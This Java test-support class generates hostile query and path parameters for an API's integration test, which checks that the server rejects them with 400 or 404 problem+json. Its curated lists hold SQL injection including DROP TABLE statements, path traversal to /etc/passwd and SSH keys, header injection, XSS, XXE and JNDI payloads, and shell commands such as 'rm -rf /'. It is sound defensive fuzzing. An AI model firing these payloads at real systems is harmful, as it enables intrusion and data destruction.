package io.naaplake.api;

import static java.util.Objects.requireNonNull;

import io.naaplake.api.routes.ParamDoc;
import io.naaplake.api.routes.RouteDoc;
import java.net.URI;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Base64;
import java.util.Collections;
import java.util.HashMap;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Optional;
import java.util.Random;
import java.util.Set;
import java.util.function.IntFunction;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import java.util.stream.Collectors;

/**
 * Bad and malicious request parameters, and the request URLs that carry them to every route. Feeds
 * the API's hostile-input integration test, which asserts that none of them gets a 5xx and that
 * every refusal is a 400 {@code application/problem+json}.
 *
 * <p>Everything is a function of the seed: a failure found once is reproduced by rerunning with the
 * seed the test printed.
 *
 * <p>No value holds a lone UTF-16 surrogate: it has no UTF-8 encoding ({@code getBytes} silently
 * turns it into {@code ?}), so it could not be sent as a well-formed percent-encoded URL and would
 * test nothing but the encoder.
 */
final class HostileInputs {

  /** How many distinct values {@link #values} returns: the curated ones, then a random mix. */
  static final int VALUE_COUNT = 2000;

  /** Fragments longer than this stay out of the random mix, which would otherwise be megabytes. */
  private static final int MAX_FRAGMENT_LENGTH = 64;

  private static final Pattern PATH_PARAMETER = Pattern.compile("\\{([^}/]+)}");

  /** Valid values for time and date parameters that are not under test. */
  private static final String VALID_TIME = "2026-01-15T12:00:00Z";

  private static final String VALID_DATE = "2026-01-15";

  /**
   * Parameter names no route declares: typos, case and whitespace variants of real names, and names
   * that are attacks themselves. The empty name ({@code ?=1}) is included.
   */
  private static final List<String> UNKNOWN_NAMES =
      List.of(
          "piepline",
          "LIMIT",
          "Limit",
          "limit ",
          " limit",
          "limit[]",
          "limit.0",
          "",
          "__proto__",
          "constructor",
          "' OR 1=1 --",
          "a\r\nX-Injected: 1",
          "\u0000",
          "\u202Elimit",
          "${jndi:ldap://x}",
          "n".repeat(1024));

  private HostileInputs() {}

  /**
   * At least 1,500 distinct hostile strings: the curated categories (the same for every seed) in a
   * fixed order, then random combinations of their short fragments drawn from {@code new
   * Random(seed)} up to {@link #VALUE_COUNT}.
   */
  static List<String> values(long seed) {
    List<String> curated = curated();
    List<String> values = new ArrayList<>(curated);
    values.addAll(randomMix(curated, seed, VALUE_COUNT - curated.size()));
    return List.copyOf(values);
  }

  /** The curated values, distinct and in category order: the seed-independent head of values. */
  static List<String> curated() {
    Set<String> values = new LinkedHashSet<>();
    values.addAll(sqlInjection());
    values.addAll(numbers());
    values.addAll(datesAndTimes());
    values.addAll(unicode());
    values.addAll(longStrings());
    values.addAll(emptyAndWhitespace());
    values.addAll(pathTraversal());
    values.addAll(headerInjection());
    values.addAll(formatStrings());
    values.addAll(markup());
    values.addAll(templateInjection());
    values.addAll(shellMetacharacters());
    values.addAll(addressLookalikes());
    values.addAll(cursorLookalikes());
    return List.copyOf(values);
  }

  /**
   * The hostile request URLs for every route, in route order and a fixed order within a route:
   *
   * <ol>
   *   <li>each query parameter given twice ({@code ?limit=1&limit=1} and with a hostile second
   *       value);
   *   <li>each of a list of undeclared parameter names, hostile names included;
   *   <li>each hostile value in each parameter, query and path in turn, sampled down so the route
   *       gets at most {@code maxPerRoute} URLs in all. The sample takes every value once (in an
   *       order shuffled per route, so different routes try different values) before any value is
   *       tried on a second parameter, and spreads values evenly over the parameters.
   * </ol>
   *
   * <p>Parameters not under test are filled with valid values (their example, first enum value,
   * minimum, or a valid time or date), so the hostile one is what the server has to judge: path
   * parameters always, required query parameters too.
   *
   * <p>Names and values are percent-encoded as UTF-8, keeping only ASCII letters, digits, {@code -}
   * and {@code _}: {@code /} in a path value becomes {@code %2F} and {@code .} becomes {@code %2E},
   * so no value can add path segments or form a {@code ..} segment that leaves the route's prefix.
   * An empty path value leaves the path ending in the prefix's {@code /}.
   *
   * @param base the server, e.g. {@code http://127.0.0.1:8080}; a path in it prefixes every route
   * @param maxPerRoute the most URLs for one route; must leave room for cases 1 and 2
   */
  static List<URI> requests(URI base, List<RouteDoc> routes, long seed, int maxPerRoute) {
    requireNonNull(base, "base is null");
    requireNonNull(routes, "routes is null");
    List<String> values = values(seed);
    // Shared by all routes: each value is encoded once, not once per parameter (some are 1 MB).
    Map<String, String> encoded = new HashMap<>();
    String root = stripTrailingSlash(base.toString());
    List<URI> requests = new ArrayList<>();
    for (RouteDoc route : routes) {
      requests.addAll(new RouteRequests(root, route, values, encoded, seed).build(maxPerRoute));
    }
    return List.copyOf(requests);
  }

  /**
   * Whether a response is a refusal the API is allowed to give to hostile input: 400 or 404 as
   * problem+json. A 404 is legitimate where a hostile path value simply names nothing; the
   * integration test decides per route whether it accepts one.
   */
  static boolean isAcceptableRejection(int status, String contentType) {
    return (status == 400 || status == 404)
        && contentType != null
        && contentType.startsWith(Problem.CONTENT_TYPE);
  }

  /**
   * Percent-encodes the UTF-8 bytes of a value, leaving only ASCII letters, digits, {@code -} and
   * {@code _} as they are, so the result is safe in a path segment, a query name and a query value
   * alike ({@code +} is never used for a space: some servers read it literally).
   */
  static String encode(String value) {
    byte[] bytes = value.getBytes(StandardCharsets.UTF_8);
    StringBuilder out = new StringBuilder(bytes.length);
    for (byte b : bytes) {
      int c = b & 0xFF;
      if ((c >= 'A' && c <= 'Z')
          || (c >= 'a' && c <= 'z')
          || (c >= '0' && c <= '9')
          || c == '-'
          || c == '_') {
        out.append((char) c);
      } else {
        out.append('%').append(Character.toUpperCase(Character.forDigit(c >> 4, 16)));
        out.append(Character.toUpperCase(Character.forDigit(c & 0xF, 16)));
      }
    }
    return out.toString();
  }

  /** The URLs of one route. */
  private static final class RouteRequests {
    private final String root;
    private final RouteDoc route;
    private final List<String> values;
    private final Map<String, String> encoded;
    private final long seed;
    private final List<ParamDoc> queryParams;
    private final List<ParamDoc> targets;

    RouteRequests(
        String root, RouteDoc route, List<String> values, Map<String, String> encoded, long seed) {
      this.root = root;
      this.route = route;
      this.values = values;
      this.encoded = encoded;
      this.seed = seed;
      this.queryParams = route.params().stream().filter(p -> p.location().equals("query")).toList();
      List<ParamDoc> pathParams =
          route.params().stream().filter(p -> p.location().equals("path")).toList();
      List<ParamDoc> all = new ArrayList<>(queryParams);
      all.addAll(pathParams);
      this.targets = List.copyOf(all);
      Set<String> inTemplate = new LinkedHashSet<>();
      Matcher matcher = PATH_PARAMETER.matcher(route.path());
      while (matcher.find()) {
        inTemplate.add(matcher.group(1));
      }
      Set<String> declared =
          pathParams.stream()
              .map(ParamDoc::name)
              .collect(Collectors.toCollection(LinkedHashSet::new));
      if (!inTemplate.equals(declared)) {
        throw new IllegalArgumentException(
            route.path() + ": path parameters " + declared + " do not match the template");
      }
    }

    List<URI> build(int maxPerRoute) {
      List<URI> structural = new ArrayList<>();
      for (ParamDoc param : queryParams) {
        String valid = validValue(param);
        structural.add(url(null, null, List.of(param.name(), valid, param.name(), valid)));
        structural.add(url(null, null, List.of(param.name(), valid, param.name(), "' OR 1=1 --")));
      }
      Set<String> declared =
          route.params().stream().map(ParamDoc::name).collect(Collectors.toSet());
      for (String name : UNKNOWN_NAMES) {
        if (!declared.contains(name)) {
          structural.add(url(null, null, List.of(name, "1")));
        }
      }
      if (maxPerRoute < structural.size()) {
        throw new IllegalArgumentException(
            "maxPerRoute "
                + maxPerRoute
                + " leaves no room for the "
                + structural.size()
                + " repeated and unknown parameter cases of "
                + route.path());
      }
      List<URI> requests = new ArrayList<>(structural);
      if (targets.isEmpty()) {
        return requests;
      }
      List<String> shuffled = new ArrayList<>(values);
      Collections.shuffle(shuffled, new Random(seed ^ route.path().hashCode()));
      long candidates = (long) shuffled.size() * targets.size();
      long budget = Math.min(candidates, maxPerRoute - structural.size());
      for (long k = 0; k < budget; k++) {
        int valueIndex = (int) (k % shuffled.size());
        int round = (int) (k / shuffled.size());
        // Round r shifts every value one parameter along, so after as many rounds as there are
        // parameters each value has been in each parameter exactly once.
        ParamDoc target = targets.get((round + valueIndex) % targets.size());
        requests.add(url(target, shuffled.get(valueIndex), List.of()));
      }
      return requests;
    }

    /**
     * The route's URL with {@code target} set to {@code hostile} (null: no target), every other
     * path parameter and required query parameter valid, then {@code extra} name/value pairs.
     */
    private URI url(ParamDoc target, String hostile, List<String> extra) {
      Matcher matcher = PATH_PARAMETER.matcher(route.path());
      StringBuilder path = new StringBuilder();
      while (matcher.find()) {
        ParamDoc param = param(matcher.group(1));
        String value = param.equals(target) ? hostile : validValue(param);
        matcher.appendReplacement(path, Matcher.quoteReplacement(encoded(value)));
      }
      matcher.appendTail(path);
      List<String> query = new ArrayList<>();
      for (ParamDoc param : queryParams) {
        if (param.equals(target)) {
          query.add(encode(param.name()) + "=" + encoded(hostile));
        } else if (param.required()) {
          query.add(encode(param.name()) + "=" + encode(validValue(param)));
        }
      }
      for (int i = 0; i < extra.size(); i += 2) {
        query.add(encode(extra.get(i)) + "=" + encode(extra.get(i + 1)));
      }
      String text = root + path + (query.isEmpty() ? "" : "?" + String.join("&", query));
      return URI.create(text);
    }

    private String encoded(String value) {
      return encoded.computeIfAbsent(value, HostileInputs::encode);
    }

    private ParamDoc param(String name) {
      return route.params().stream()
          .filter(p -> p.name().equals(name) && p.location().equals("path"))
          .findFirst()
          .orElseThrow();
    }
  }

  /** A value the parameter accepts, so a request fails only on the parameter under test. */
  private static String validValue(ParamDoc param) {
    if (param.example().isPresent()) {
      return param.example().get();
    }
    if (!param.enumValues().isEmpty()) {
      return param.enumValues().get(0);
    }
    if (param.minimum().isPresent()) {
      return Integer.toString(param.minimum().get());
    }
    if (param.format().equals(Optional.of("date-time"))) {
      return VALID_TIME;
    }
    if (param.format().equals(Optional.of("date"))) {
      return VALID_DATE;
    }
    if (param.location().equals("path")) {
      throw new IllegalArgumentException("path parameter " + param.name() + " has no example");
    }
    // A free filter: plain letters pass every filter pattern the API uses.
    return "abc";
  }

  private static String stripTrailingSlash(String text) {
    return text.endsWith("/") ? text.substring(0, text.length() - 1) : text;
  }

  private static List<String> sqlInjection() {
    return List.of(
        "' OR 1=1 --",
        "' OR '1'='1",
        "\" OR \"1\"=\"1",
        "' OR 1=1 #",
        "' OR 1=1 /*",
        "' OR ''='",
        "' OR TRUE --",
        "1 OR 1=1",
        "1) OR (1=1",
        "'))--",
        "admin'--",
        "'; DROP TABLE gold.streaming_sla_hourly; --",
        "1; DROP TABLE gold.streaming_sla_hourly",
        "x'; DELETE FROM gold.streaming_sla_hourly WHERE '1'='1",
        "' UNION SELECT * FROM information_schema.tables --",
        "' UNION SELECT NULL, NULL, NULL --",
        "1 UNION ALL SELECT table_name FROM information_schema.tables",
        "' UNION SELECT current_user, version() --",
        "'/**/OR/**/1=1--",
        "1/**/UNION/**/SELECT/**/1",
        "'/*!50000OR*/1=1--",
        "' --",
        "'--",
        "\\'",
        "\\' OR 1=1 --",
        "\\\\'",
        "''",
        "'''",
        "O''Brien",
        "' || '",
        "' || (SELECT count(*) FROM system.runtime.nodes) || '",
        "0x27204f5220313d31",
        "X'27'",
        "U&'\\0027' OR 1=1 --",
        "CHAR(39)||CHAR(32)||CHAR(79)||CHAR(82)",
        "chr(39) || 'x'",
        "%27%20OR%201%3D1",
        "'; SELECT pg_sleep(10); --",
        "' AND SLEEP(5)--",
        "1; SELECT * FROM system.runtime.queries",
        "x'; SHOW CATALOGS; --",
        "'; CALL system.sync_partition_metadata('gold', 'x', 'FULL'); --",
        "'; ALTER TABLE gold.streaming_sla_hourly EXECUTE optimize; --",
        "' AND extractvalue(1, concat(0x7e, version())) --",
        "$$; DROP TABLE x; $$",
        "`; --",
        "\"; --",
        "1e1' OR '",
        "sd-turbo' OR pipeline LIKE '%");
  }

  private static List<String> numbers() {
    return List.of(
        "1e309",
        "-1e309",
        "1e-400",
        "99999999999999999999999",
        "-99999999999999999999999",
        "-1",
        "0",
        "-0",
        "+0",
        "+1",
        "00001",
        "1",
        "1000",
        "1001",
        "2147483647",
        "2147483648",
        "-2147483648",
        "-2147483649",
        "4294967296",
        "9223372036854775807",
        "9223372036854775808",
        "-9223372036854775809",
        "18446744073709551616",
        "NaN",
        "nan",
        "Infinity",
        "-Infinity",
        "inf",
        "1.5",
        "1.0",
        "1.",
        ".5",
        "1e3",
        "1E3",
        "0x10",
        "0X10",
        "0b101",
        "0o17",
        "017",
        "1_000",
        "1,000",
        "1 000",
        "10L",
        "1f",
        "1d",
        "--1",
        "1-",
        "0.1e-10",
        "4.9e-324",
        "1.7976931348623157e308");
  }

  private static List<String> datesAndTimes() {
    return List.of(
        "0000-01-01T00:00:00Z",
        "0000-00-00",
        "-0001-01-01T00:00:00Z",
        "+10000-01-01T00:00:00Z",
        "9999-12-31",
        "9999-12-31T23:59:59Z",
        "1999-12-31T23:59:59Z",
        "2000-01-01T00:00:00Z",
        "2199-12-31T23:59:59.999999999Z",
        "2200-01-01T00:00:00Z",
        "2026-13-45",
        "2026-13-45T00:00:00Z",
        "2026-02-30",
        "2026-02-29",
        "2024-02-29T00:00:00Z",
        "2026-00-10",
        "2026-1-5",
        "26-01-15",
        "2026/01/15",
        "15.01.2026",
        "2026-01-01T25:00:00Z",
        "2026-01-01T24:00:00Z",
        "2026-01-01T23:60:00Z",
        "2016-12-31T23:59:60Z",
        "2026-01-01T00:00:00+25:00",
        "2026-01-01T00:00:00-25:00",
        "2026-01-01T00:00:00+18:01",
        "2026-01-01T00:00:00+18:00",
        "2026-01-01T00:00:00-00:00",
        "2026-01-01T00:00:00+0000",
        "2026-01-01T00:00:00+00",
        "2026-01-15T12:00:00",
        "2026-01-15 12:00:00Z",
        "2026-01-15t12:00:00z",
        "2026-01-15T12:00:00.0000000001Z",
        "2026-01-15T12:00:00.Z",
        "2026-01-15T12:00:00+00:00[Europe/Paris]",
        "2026-01-15T12:00Z",
        "2026-W03-4",
        "2026-015",
        "1767225600000",
        "1767225600",
        "-1767225600000",
        " 2026-01-15T12:00:00Z",
        "2026-01-15T12:00:00Z ",
        " 2026-01-15T12:00:00Z ",
        "\t2026-01-15T12:00:00Z\n",
        " 2026-01-15",
        "2026-01-15T12:00:00Z/2026-01-16T00:00:00Z",
        "P1D",
        "PT24H",
        "now",
        "yesterday",
        "today",
        "2026-01-15T12:00:00Z' OR '1'='1");
  }

  private static List<String> unicode() {
    return List.of(
        "\uD83D\uDE00",
        "sd-turbo\uD83D\uDE00",
        "\uD83C\uDFF3\uFE0F\u200D\uD83C\uDF08",
        "\uD83D\uDC69\u200D\uD83D\uDCBB",
        "\u202E",
        "\u202Eevil.exe",
        "live\u202Eoediv",
        "\u2066isolate\u2069",
        "a\u200Db",
        "\u200B",
        "a\u200Bb",
        "\uFEFF",
        "\uFEFF2026-01-15",
        "e\u0301",
        "a\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308",
        "Z\u0334\u0321\u031B\u0316a\u0337l\u0336g\u0338o\u0337",
        "\uFF11\uFF12\uFF13",
        "\uFF10x\uFF41\uFF42\uFF43",
        "\u0661\u0662\u0663",
        "\u096B\u0966",
        "\uD835\uDFD8\uD835\uDFD9",
        "\u00BD",
        "\u2460",
        "\u0000",
        "a\u0000b",
        "2026-01-15\u0000",
        "\u0001",
        "\u0007",
        "\u0008",
        "\u001B[31mred\u001B[0m",
        "\u001F",
        "\u007F",
        "\u0085",
        "\u2028",
        "\u2029",
        "\uFFFD",
        "\uFFFE",
        "\uFFFF",
        "\uDBFF\uDFFF",
        "\u0130",
        "\u0131",
        "\u00DF",
        "\uFB01",
        "\u2126",
        "\u0455d-turbo",
        "\u0441\u0430\u0440",
        "\u4E2D\u6587",
        "\u0645\u0631\u062D\u0628\u0627",
        "\u05E9\u05DC\u05D5\u05DD",
        "\u00E9",
        "\u00C3\u00A9",
        "\u0100\u0101",
        "\u010D\u010A");
  }

  private static List<String> longStrings() {
    return List.of(
        "a".repeat(128),
        "a".repeat(129),
        "a".repeat(256),
        "a".repeat(257),
        "A".repeat(2048),
        "A".repeat(2049),
        "a".repeat(1024),
        "9".repeat(10 * 1024),
        "x".repeat(100 * 1024),
        "\u00E9".repeat(1024),
        "\uD83D\uDE00".repeat(512),
        "' OR 1=1 --".repeat(1000),
        VALID_TIME + "0".repeat(1024),
        "a ".repeat(5000));
  }

  private static List<String> emptyAndWhitespace() {
    return List.of(
        "", " ", "  ", "\t", "\n", "\r", "\r\n", "\u000B", "\u000C", "\u00A0", "\u2003", "\u3000",
        " a", "a ", "a  b", "\t\n\r ");
  }

  private static List<String> pathTraversal() {
    return List.of(
        "../../etc/passwd",
        "../../../../../../../../etc/passwd",
        "..%2f..%2fetc%2fpasswd",
        "..%2F..%2Fetc%2Fpasswd",
        "%2e%2e/%2e%2e/etc/passwd",
        "%2e%2e%2f%2e%2e%2f",
        "%252e%252e%252f",
        "..%c0%af..%c0%af",
        "%c0%ae%c0%ae/",
        "....//....//etc/passwd",
        "..;/",
        "..\\..\\windows\\win.ini",
        "/etc/passwd",
        "/proc/self/environ",
        "C:\\windows\\win.ini",
        "\\\\server\\share",
        "file:///etc/passwd",
        "/v1/../healthz",
        ".",
        "..",
        "/",
        "//",
        "\\",
        "~/.ssh/id_rsa",
        "..%00/",
        "%00",
        "WEB-INF/web.xml");
  }

  private static List<String> headerInjection() {
    return List.of(
        "a\r\nX-Injected: 1",
        "a\nX-Injected: 1",
        "a\rX-Injected: 1",
        "a\r\n\r\n<html>injected</html>",
        "%0d%0aX-Injected:%201",
        "%0D%0ASet-Cookie:%20x=1",
        "a\r\nSet-Cookie: x=1",
        "a\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK",
        "a\u2028X-Injected: 1",
        "a\u0085X-Injected: 1",
        "a\u010D\u010AX-Injected: 1");
  }

  private static List<String> formatStrings() {
    return List.of(
        "%s%n%x",
        "%n%n%n%n",
        "%x%x%x%x",
        "%s%s%s%s%s",
        "%99999999s",
        "%.1000000f",
        "%1$s",
        "%p",
        "%d",
        "%",
        "%%",
        "%zz",
        "%u0000",
        "{0}",
        "{}",
        "%(x)s",
        "\\n",
        "\\u0000");
  }

  private static List<String> markup() {
    return List.of(
        "<script>alert(1)</script>",
        "\"><img src=x onerror=alert(1)>",
        "'><svg onload=alert(1)>",
        "javascript:alert(1)",
        "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>",
        "<![CDATA[x]]>",
        "]]>",
        "<!--",
        "&amp;",
        "&#x27;",
        "&lt;script&gt;",
        "{\"a\":1}",
        "{\"$where\":\"1==1\"}",
        "{\"limit\":1}",
        "[1,2,3]",
        "[]",
        "{}",
        "null",
        "true",
        "undefined",
        "\"",
        "'",
        "\"quoted\"",
        "{\"a\":",
        "\"}],\"data\":[{\"injected\":true}]");
  }

  private static List<String> templateInjection() {
    return List.of(
        "${jndi:ldap://x}",
        "${jndi:ldap://127.0.0.1:1389/a}",
        "${${lower:j}ndi:${lower:l}dap://x}",
        "${env:PATH}",
        "${sys:user.home}",
        "${7*7}",
        "{{7*7}}",
        "${{7*7}}",
        "#{7*7}",
        "*{7*7}",
        "%{7*7}",
        "<%= 7*7 %>",
        "{{constructor.constructor('return 1')()}}",
        "{% raw %}",
        "@(1+1)");
  }

  private static List<String> shellMetacharacters() {
    return List.of(
        "; ls -la",
        "| cat /etc/passwd",
        "&& id",
        "|| true",
        "`id`",
        "$(id)",
        "; rm -rf /",
        "> /tmp/x",
        "< /dev/zero",
        "a;b",
        "a|b",
        "a&b",
        "a&limit=5",
        "a=b",
        "a#b",
        "a?b",
        "*",
        "?",
        "~",
        "!!",
        "$HOME",
        "'\"`$\\",
        "\nid");
  }

  private static List<String> addressLookalikes() {
    String hex40 = "ab".repeat(20);
    return List.of(
        "0x" + hex40.substring(1),
        "0x" + hex40 + "a",
        "0X" + hex40,
        "0x" + "g".repeat(40),
        "0x" + hex40.toUpperCase(Locale.ROOT),
        " 0x" + hex40,
        "0x" + hex40 + " ",
        "0x" + hex40 + "\u0000",
        "0x" + hex40 + "/history",
        "0x" + hex40 + "' OR 1=1 --",
        "0x" + "a".repeat(4000),
        "0x",
        "0x0",
        "0x-1",
        "-0x1",
        hex40,
        "0x\uFF41" + hex40.substring(1),
        "vitalik.eth",
        "0x0000000000000000000000000000000000000000");
  }

  /**
   * Strings shaped like pagination cursors: URL-safe base64 of garbage, of JSON with wrong types,
   * of the real layout with a forged MAC or an unknown version, and of a megabyte (far over the
   * cursor length cap).
   */
  private static List<String> cursorLookalikes() {
    Base64.Encoder url = Base64.getUrlEncoder().withoutPadding();
    IntFunction<byte[]> noise =
        size -> {
          byte[] bytes = new byte[size];
          // A fixed generator: this category must not change with the seed.
          new Random(7).nextBytes(bytes);
          return bytes;
        };
    byte[] megabyte = noise.apply(1 << 20);
    return List.of(
        url.encodeToString(utf8("{")),
        url.encodeToString(utf8("{\"a\":")),
        url.encodeToString(utf8("[\"a\",1,true,null,{}]")),
        url.encodeToString(utf8("[1,2,3]")),
        url.encodeToString(utf8("[]")),
        url.encodeToString(utf8("[null]")),
        url.encodeToString(utf8("[\"" + "9".repeat(1000) + "\"]")),
        url.encodeToString(utf8("[".repeat(600) + "]".repeat(600))),
        url.encodeToString(forgedCursor((byte) 1, "[\"2026-01-15T00:00:00Z\",\"0xabc\"]")),
        url.encodeToString(forgedCursor((byte) 9, "[\"2026-01-15T00:00:00Z\"]")),
        url.encodeToString(forgedCursor((byte) 1, "")),
        url.encodeToString(noise.apply(1)),
        url.encodeToString(noise.apply(17)),
        url.encodeToString(noise.apply(1536)),
        url.encodeToString(megabyte),
        Base64.getEncoder().encodeToString(utf8("[\"a\"]>?")),
        Base64.getUrlEncoder().encodeToString(utf8("[\"a\",\"b\"]")),
        "AAAA",
        "A",
        "AAA",
        "====",
        "!!!!",
        "AQ==");
  }

  /** The real cursor layout (version, 16-byte MAC, JSON payload) with an all-zero MAC. */
  private static byte[] forgedCursor(byte version, String payload) {
    byte[] json = utf8(payload);
    byte[] bytes = new byte[1 + 16 + json.length];
    bytes[0] = version;
    System.arraycopy(json, 0, bytes, 17, json.length);
    return bytes;
  }

  /**
   * Combinations of 2 to 4 short curated fragments and separators, sometimes case-flipped or
   * repeated, until {@code count} new distinct values exist. Fragments are whole strings, never
   * cut, so no lone surrogate can arise.
   */
  private static List<String> randomMix(List<String> curated, long seed, int count) {
    List<String> fragments = new ArrayList<>();
    for (String value : curated) {
      if (value.length() <= MAX_FRAGMENT_LENGTH) {
        fragments.add(value);
      }
    }
    List<String> separators = List.of("", " ", "&", "=", ";", "/", "%", ",", "\u0000", "\n");
    Set<String> seen = new LinkedHashSet<>(curated);
    List<String> mixed = new ArrayList<>();
    Random random = new Random(seed);
    int attempts = 0;
    while (mixed.size() < count) {
      if (++attempts > count * 100) {
        throw new IllegalStateException("random mix repeats itself; too few fragments");
      }
      int parts = 2 + random.nextInt(3);
      StringBuilder value = new StringBuilder();
      for (int i = 0; i < parts; i++) {
        if (i > 0) {
          value.append(separators.get(random.nextInt(separators.size())));
        }
        value.append(fragments.get(random.nextInt(fragments.size())));
      }
      String text = value.toString();
      int twist = random.nextInt(10);
      if (twist == 0) {
        text = text.toUpperCase(Locale.ROOT);
      } else if (twist == 1) {
        text = text.repeat(2 + random.nextInt(19));
      }
      if (seen.add(text)) {
        mixed.add(text);
      }
    }
    return mixed;
  }

  private static byte[] utf8(String text) {
    return text.getBytes(StandardCharsets.UTF_8);
  }
}
